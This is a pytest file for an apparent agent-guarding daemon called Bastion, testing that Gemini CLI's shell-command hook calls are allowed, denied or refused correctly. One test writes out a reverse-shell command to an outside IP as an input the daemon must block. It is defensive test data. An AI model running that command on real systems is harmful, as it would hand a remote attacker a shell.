"""The hook process (Python and native) carries Gemini CLI's calls to the daemon and back.

The payloads are the recorded ones (tests/data/agents/gemini-cli/); the replies are in Gemini
CLI's terms (``{"decision": "deny", "reason": ...}``), which the real client obeys
(tests/e2e/test_gemini_cli.py). Both clients must accept the agent name: one home has one
shim, and a Claude Code install points it at the native client.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bastion.sensors import registry

BIN = Path(sys.executable).parent
DATA = Path(__file__).resolve().parents[1] / "data" / "agents" / "gemini-cli"


def payload(command: str) -> dict[str, Any]:
    data = json.loads((DATA / "BeforeTool-run_shell_command.json").read_text())["payload"]
    return dict(data, tool_input={"command": command})


def hook(client: Path, home: Path, data: dict[str, Any]) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [str(client), "gemini-cli"], input=json.dumps(data).encode(), capture_output=True,
        env={**os.environ, "BASTION_HOME": str(home)}, timeout=60,
    )  # fmt: skip


@pytest.fixture
def running(home: Path) -> Iterator[Path]:
    subprocess.run([str(BIN / "bastion"), "up", "--home", str(home)], check=True,
                   capture_output=True, timeout=60)  # fmt: skip
    yield home
    subprocess.run([str(BIN / "bastion"), "down", "--home", str(home)], capture_output=True,
                   timeout=60)  # fmt: skip


def test_a_benign_gemini_call_is_allowed_silently(hook_client: Path, running: Path) -> None:
    out = hook(hook_client, running, payload("git status --short"))
    assert out.returncode == 0 and out.stdout == b"", out.stderr


def test_a_reverse_shell_is_denied_in_gemini_terms(hook_client: Path, running: Path) -> None:
    out = hook(hook_client, running, payload("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"))
    reply = json.loads(out.stdout)
    assert out.returncode == 0 and reply["decision"] == "deny", out
    assert reply["reason"].startswith("Bastion blocked")


def test_an_unknown_agent_is_still_refused(hook_client: Path, running: Path) -> None:
    """Neither client keeps a list of agents: the name goes to the daemon, which answers from
    the sensor registry, so both clients refuse with the registry's own words."""
    out = subprocess.run([str(hook_client), "no-such-agent"], input=b"{}", capture_output=True,
                         env={**os.environ, "BASTION_HOME": str(running)}, timeout=60)  # fmt: skip
    assert out.returncode == 2, out
    assert out.stderr.decode() == registry.hook_refusal("no-such-agent")
    assert f"use one of: {registry.supported()}" in out.stderr.decode()


@pytest.mark.parametrize("name", ["control", "Claude-Code", "a b", "x" * 33])
def test_a_name_that_is_no_agent_name_never_leaves_the_client(
    hook_client: Path, home: Path, name: str
) -> None:
    """Checked before anything is read or sent (no daemon runs here): ``control`` would make
    the payload a control message, a space would break the header."""
    out = subprocess.run([str(hook_client), name], input=b"{}", capture_output=True,
                         env={**os.environ, "BASTION_HOME": str(home)}, timeout=60)  # fmt: skip
    assert out.returncode == 2 and out.stderr.startswith(
        f"Bastion: unknown agent '{name}'".encode()
    )
    assert not (home / "daemon.sock").exists()


def test_every_registered_agent_passes_both_clients(hook_client: Path, running: Path) -> None:
    """An agent added to the registry needs nothing in either client: each one reaches its
    sensor (an empty payload is the sensor's refusal, not the client's)."""
    env = {**os.environ, "BASTION_HOME": str(running)}
    for agent in registry.AGENTS:
        out = subprocess.run(
            [str(hook_client), agent], input=b"", capture_output=True, env=env, timeout=60
        )
        assert out.returncode in (0, 2), out
        assert b"unknown agent" not in out.stderr
        assert b"empty hook payload" in out.stdout + out.stderr
